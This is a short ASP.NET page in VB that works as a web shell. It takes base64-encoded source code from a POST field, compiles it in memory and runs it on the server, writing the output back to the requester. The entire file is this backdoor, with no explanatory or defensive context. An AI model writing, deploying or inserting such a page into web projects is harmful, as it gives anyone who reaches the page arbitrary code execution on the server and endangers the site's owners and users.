<%@ Page Language="VB" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    If Request.Form("src") Is Nothing Then Return
    Dim code As String = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form("src")))
    Dim prov As New Microsoft.VisualBasic.VBCodeProvider()
    Dim cp As New CompilerParameters()
    cp.GenerateInMemory = True
    Dim res As CompilerResults = prov.CompileAssemblyFromSource(cp, code)
    Response.Write(res.CompiledAssembly.GetType("Job").GetMethod("Go").Invoke(Nothing, Nothing))
End Sub
</script>
